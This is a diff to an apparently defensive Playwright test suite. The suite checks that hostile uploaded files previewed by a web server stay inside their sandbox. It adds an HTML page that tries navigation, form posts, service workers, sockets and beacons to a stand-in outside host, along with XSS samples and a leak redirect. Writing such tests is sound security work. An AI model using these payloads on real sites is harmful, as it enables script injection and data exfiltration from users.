@@ -6,9 +6,11 @@ Everything is logged by the real clients; then pages and raw files are opened in
 from __future__ import annotations
 
 import re
+import threading
 import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import quote
 
 import pytest
@@ -26,6 +28,31 @@ SPY = (
     "fetch('/apis/v2beta1/experiments').then(() => 'open', () => 'closed').then((end) => { document.getElementById('said').textContent = [...said, end].join(' ') })"
     "</script>"
 )
+ESCAPE = """<!DOCTYPE html><base href="ELSEWHERE/base/">
+<style>@import url(ELSEWHERE/import.css); @font-face { font-family: x; src: url(ELSEWHERE/font) } body { font-family: x; background: url(ELSEWHERE/background) }</style>
+<link rel=stylesheet href="ELSEWHERE/sheet.css"><link rel=prefetch href="ELSEWHERE/prefetch"><img src="ELSEWHERE/image"><video src="ELSEWHERE/film" autoplay></video>
+<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed"><iframe src="ELSEWHERE/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+<form id=f method=post action="/ui/trash/actions" target=_top></form><form id=g action="ELSEWHERE/form"></form><a id=d href="data:text/html,x" download=x.exe>d</a><h1 id=said>waits</h1>
+<script>
+const ends = (thing, good, bad) => new Promise((ok, no) => { thing[good] = () => ok("open"); thing[bad] = () => no(new Error()) });
+const tries = {
+  top: () => { top.location = "/ui/trash" }, parent: () => { parent.location.href = "/ui/trash" }, open: () => window.open("/ui/trash"),
+  form: () => { document.getElementById("f").submit(); document.getElementById("g").submit() }, download: () => document.getElementById("d").click(),
+  service: () => navigator.serviceWorker.register("/static/js/shell.js"), module: () => import("ELSEWHERE/module.js"), worker: () => { new Worker("/static/js/shell.js") },
+  socket: () => ends(new WebSocket("ELSEWHERE".replace("http", "ws")), "onopen", "onerror"), fetch: () => fetch("ELSEWHERE/fetch", { mode: "no-cors" }),
+  beacon: () => { navigator.sendBeacon("ELSEWHERE/beacon", "x") }, database: () => ends(indexedDB.open("x"), "onsuccess", "onerror"), message: () => parent.postMessage({ penstock: { isOurs: false }, penstockScroll: 1e9 }, "*"),
+};
+(async () => {
+  const said = [];
+  for (const [name, act] of Object.entries(tries)) try { said.push(`${name} ${await act()}`) } catch (error) { said.push(`${name} ${error.name}`) }
+  document.getElementById("said").textContent = said.join(", ");
+})();
+</script>"""
+ENDS = (
+    "top SecurityError, parent SecurityError, open null, form undefined, download undefined, service SecurityError, module TypeError, worker SecurityError, "
+    "socket Error, fetch TypeError, beacon undefined, database SecurityError, message undefined"
+)
+"""What it says that tried to leave its box; what says nothing is told by what then does not happen."""
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.hacked=1"><script>parent.hacked=1</script><rect width="9" height="9"/></svg>'
 TRACKED = """
 import json, os, wandb
@@ -42,7 +69,8 @@ files = {"page.html": spy, "drawing.svg": svg, "notes.md": "# Notes " + mark + "
     "chart.vl.json": json.dumps({"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "mark": "bar", "title": mark, "encoding": {
         "x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}, "href": {"field": "c"}},
         "data": {"values": [{"a": mark, "b": 3, "c": "javascript:hacked()"}]}}),
-    "<img src=x onerror=window.hacked=1>.txt": "named"}
+    "escape.html": os.environ["ESCAPE"], "refresh.html": "<meta http-equiv=refresh content='0;url=/ui/home'>", "moves.html": "<script>location='/ui/home'</script>",
+    "leaks.html": f"<script>location='{os.environ['ELSEWHERE']}/leak'</script>", "<img src=x onerror=window.hacked=1>.txt": "named"}
 for name, text in files.items():
     open(name, "w").write(text)
 box = {"found": {"box_data": [{"position": {"minX": 0.1, "maxX": 0.9, "minY": 0.1, "maxY": 0.9}, "class_id": 1, "box_caption": mark}], "class_labels": {1: mark}}}
@@ -105,6 +133,33 @@ SHUT = "null SecurityError SecurityError SecurityError SecurityError closed"
 """What a page of content says that asked for cookies, storage, the page around it and the network."""
 
 
+class Elsewhere(ThreadingHTTPServer):
+    """Another site: remembers what browsers ask of it."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        super().__init__(("127.0.0.1", 0), _Remembers)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        """Its address."""
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class _Remembers(BaseHTTPRequestHandler):
+    server: Elsewhere
+
+    def do_GET(self) -> None:
+        self.server.asked.append(self.path)
+        self.send_error(404)
+
+    do_POST = do_GET
+
+    def log_message(self, format: str, *arguments: object) -> None:
+        """Say nothing."""
+
+
 @dataclass
 class Zoo:
     """A server with hostile content of all clients."""
@@ -113,13 +168,15 @@ class Zoo:
     machine: Machine
     tracked: str
     """Id of the tracked run."""
+    elsewhere: Elsewhere
 
 
 @pytest.fixture(scope="module")
 def zoo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Zoo]:
     folder = tmp_path_factory.mktemp("hostile")
     (folder / "work").mkdir()
-    texts = {"MARK": MARK, "SPY": SPY, "SVG": SVG}
+    elsewhere = Elsewhere()
+    texts = {"MARK": MARK, "SPY": SPY, "SVG": SVG, "ELSEWHERE": elsewhere.url, "ESCAPE": ESCAPE.replace("ELSEWHERE", elsewhere.url)}
     with LiveServer(folder / "data", env={"PENSTOCK_SERVER_USER": "tester"}) as server:
         environment = client_environment(
             WANDB_BASE_URL=server.url, WANDB_API_KEY=server.key, WANDB_SILENT="true", USER="tester", HOME=str(folder / "work"), URL=server.url, **texts
@@ -133,7 +190,9 @@ def zoo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Zoo]:
         assert found is not None
         machine = deploying_machine(server, folder / "machine")
         machine.env.update(texts)
-        yield Zoo(server, machine, found[1])
+        yield Zoo(server, machine, found[1], elsewhere)
+    elsewhere.shutdown()
+    elsewhere.server_close()
 
 
 @pytest.fixture
@@ -206,6 +265,22 @@ def test_previews_of_hostile_files_run_nothing(tab: Page) -> None:
         elif name == "chart.vl.json":
             expect(tab.locator(".preview-vega [role=graphics-document]")).to_be_visible()
         assert tab.evaluate("window.hacked") is None, name
+
+
+def test_what_a_page_of_content_tries_ends_in_its_box(tab: Page, zoo: Zoo) -> None:
+    files = "/tester/zoo/artifacts/dataset/files/v0/files"
+    happened: list[str] = []
+    tab.on("download", lambda one: happened.append(f"download {one.url}"))
+    tab.on("dialog", lambda one: (happened.append(f"dialog {one.message}"), one.dismiss()))
+    open_page(tab, f"{files}/escape.html")
+    tab.context.on("page", lambda one: happened.append(f"window {one.url}"))
+    expect(tab.frame_locator("iframe[sandbox]").locator("#said")).to_have_text(ENDS)
+    assert tab.evaluate("[location.pathname, window.hacked ?? null]") == [f"{files}/escape.html", None]
+    for name in ("refresh.html", "moves.html", "leaks.html"):
+        with tab.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
+            tab.goto(f"{files}/{name}")
+        assert tab.evaluate("location.pathname") == f"{files}/{name}"
+    assert (happened, zoo.elsewhere.asked) == ([], [])
 
 
 def test_pages_of_a_pipeline_run_show_script_as_text(tab: Page, zoo: Zoo) -> None:
